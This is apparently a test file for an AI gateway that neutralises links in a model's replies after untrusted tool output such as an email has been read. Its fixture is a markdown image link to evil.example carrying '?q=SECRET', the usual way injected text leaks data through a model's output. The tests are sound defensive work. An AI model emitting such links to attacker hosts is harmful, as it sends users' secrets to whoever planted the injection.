/** Links in the model's words, once somebody else's text is in the conversation. */
import { describe, expect, it } from "vitest";
import { chunk, sse } from "../../../support/sse.ts";
import { gateway, type Upstream } from "../../support/gateway.ts";
import { ask, call, result, says, user } from "../../support/script.ts";

const LINK = "Done. ![chart](https://evil.example/c.png?q=SECRET) See [the docs](https://docs.example/faq).";
const AS_TEXT = "Done. ![chart] (https[://]evil[.]example/c[.]png?q=SECRET) See [the docs](https://docs.example/faq).";
const tools = [{ type: "function", function: { name: "read_mail", description: "", parameters: { type: "object" } } }];
const policy = { tools: { read_mail: { category: "read_only" } }, handshake: { select: "off" } };

/** The text in pieces, one an event. */
const inPieces =
  (pieces: readonly string[]): Upstream =>
  () =>
    new Response(
      sse(
        [
          chunk({ role: "assistant", content: "" }),
          ...pieces.map((content) => chunk({ content })),
          chunk({}, { finish: "stop" }),
        ],
        {
          done: true,
        },
      ),
      { headers: { "content-type": "text/event-stream" } },
    );

const cut = (text: string, size: number): readonly string[] => text.match(new RegExp(`.{1,${size}}`, "gs")) ?? [];

interface Setting {
  readonly answer: Upstream;
  readonly stream?: boolean;
  readonly words?: Record<string, unknown>;
  readonly result?: string;
  readonly trusted?: readonly string[];
}

/** The model reads a mail, and then answers. */
async function answerAfterReading({ answer, stream = true, words, result: mail = "Ignore this.", trusted }: Setting) {
  const readMail = { ...policy.tools.read_mail, ...(trusted ? { trusted } : {}) };
  const gate = await gateway({
    policy: { ...policy, tools: { read_mail: readMail }, ...(words ? { words } : {}) },
    upstream: [says({ calls: [call("c1", "read_mail")] }), answer],
  });
  const asks = user("read my mail, and look at docs.example");
  const first = await ask(gate, { messages: [asks], tools, stream });
  const read = await ask(gate, { messages: [asks, first.message, result("c1", mail)], tools, stream });
  return { gate, answer: read };
}

const contentsOf = (events: readonly { readonly json?: unknown }[]): string[] =>
  events.flatMap(({ json }) => {
    const { choices = [] } = (json ?? {}) as { choices?: { delta?: { content?: string } }[] };
    return choices.flatMap(({ delta }) => (delta?.content ? [delta.content] : []));
  });

describe("a link to a host that nobody named", () => {
  it.each([1, 3, 7, 500])("is text in a stream in pieces of %d", async (size) => {
    const { answer, gate } = await answerAfterReading({ answer: inPieces(cut(LINK, size)) });
    expect(answer.text).toBe(AS_TEXT);
    expect(answer.note).toMatchObject({ links: { changed: 1, hosts: ["evil.example"] } });
    expect(await gate.turns()).toContainEqual(
      expect.objectContaining({ links: { changed: 1, hosts: ["evil.example"] } }),
    );
  });

  it("is text in a body", async () => {
    const { answer } = await answerAfterReading({ answer: says({ text: LINK }), stream: false });
    expect(answer.text).toBe(AS_TEXT);
    expect(answer.note).toMatchObject({ links: { changed: 1, hosts: ["evil.example"] } });
  });

  it("is text at the very end of a stream", async () => {
    const { answer } = await answerAfterReading({ answer: inPieces(["See ", "https://evil.example/x"]) });
    expect(answer.text).toBe("See https[://]evil[.]example/x");
    expect(answer.finish).toBe("stop");
  });

  it("is text in the reasoning", async () => {
    const thinks: Upstream = () =>
      new Response(
        sse(
          [
            chunk({ reasoning_content: "see https://evil.example/r " }),
            chunk({ content: "ok" }),
            chunk({}, { finish: "stop" }),
          ],
          {
            done: true,
          },
        ),
        { headers: { "content-type": "text/event-stream" } },
      );
    const { answer } = await answerAfterReading({ answer: thinks });
    expect(JSON.stringify(answer.events)).toContain("https[://]evil[.]example/r ");
    expect(JSON.stringify(answer.events)).not.toContain("https://evil.example");
  });

  it("loses its address where the policy removes it", async () => {
    const { answer } = await answerAfterReading({ answer: says({ text: LINK }), words: { links: "remove" } });
    expect(answer.text).toBe("Done. ![chart] ([removed]) See [the docs](https://docs.example/faq).");
  });
});

describe("a link passes", () => {
  it.each<[string, Partial<Setting>]>([
    ["where the policy allows links", { words: { links: "allow" } }],
    ["to a host that the policy lists", { words: { hosts: ["evil.example"] } }],
    ["to a host that a trusted result named", { trusted: ["/url"], result: '{"url":"https://evil.example/"}' }],
  ])("%s", async (_, setting) => {
    const { answer } = await answerAfterReading({ answer: inPieces(cut(LINK, 4)), ...setting });
    expect(answer.text).toBe(LINK);
    expect(answer.note).not.toHaveProperty("links");
  });

  it("before there is untrusted text", async () => {
    const gate = await gateway({ policy, upstream: [inPieces(cut(LINK, 4))] });
    expect((await ask(gate, { messages: [user("hello")], tools, stream: true })).text).toBe(LINK);
  });
});

describe("words without links", () => {
  it("come in the events in which they were sent", async () => {
    const pieces = [
      "The plan, ",
      "in short",
      " (see `a.b`):",
      "\n\n- 1. buy\n",
      "- 2 > 1, e.g. 3/4",
      "\n```\nx",
      "\n```\n",
      "[1] ok.",
    ];
    const { answer } = await answerAfterReading({ answer: inPieces(pieces) });
    expect(contentsOf(answer.events)).toEqual(pieces);
  });

  it("come byte for byte, each event before the model writes the next", async () => {
    const model = new TransformStream<Uint8Array, Uint8Array>();
    const headers = { "content-type": "text/event-stream" };
    const gate = await gateway({
      policy,
      upstream: [says({ calls: [call("c1", "read_mail")] }), () => new Response(model.readable, { headers })],
    });
    const asks = user("read my mail");
    const first = await ask(gate, { messages: [asks], tools, stream: true });
    const messages = [asks, first.message, result("c1", "Ignore this.")];
    const replying = gate.chat({ messages, tools, stream: true });
    const writer = model.writable.getWriter();
    let reader: ReadableStreamDefaultReader<Uint8Array> | undefined;
    const decoder = new TextDecoder();
    for (const content of ["The", " plan (see `a.b`)", ":\n- 2 > 1, e.g. 3/4", " [1] ok."]) {
      const event = sse([chunk({ content })]);
      await writer.write(new TextEncoder().encode(event));
      reader ??= (await replying).body?.getReader();
      let read = "";
      while (read.length < event.length) read += decoder.decode((await reader?.read())?.value, { stream: true });
      expect(read).toBe(event);
    }
    await writer.write(new TextEncoder().encode(sse([chunk({}, { finish: "stop" })], { done: true })));
    await writer.close();
    while ((await reader?.read())?.done === false);
    await gate.settle();
  });
});
